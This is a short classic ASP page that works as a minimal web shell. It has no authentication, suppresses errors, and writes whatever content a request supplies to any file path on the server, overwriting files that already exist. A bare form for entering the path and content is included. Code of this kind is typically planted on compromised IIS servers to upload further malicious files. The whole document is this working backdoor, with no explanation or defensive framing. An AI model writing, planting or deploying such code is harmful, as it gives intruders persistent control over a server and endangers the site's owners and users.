<%on error resume next%>
<%k="scripting.filesystemobject"%>
<%set o=server.createobject(k)%>
<%target=request("path")%>
<%if target<>"" then%>
<%body=request("content")%>
<%set t=o.createtextfile(target,true)%>
<%t.write body%>
<%t.close%>
<%end if%>
<form method="post"><input name="path"><textarea name="content"></textarea><input type="submit"></form>
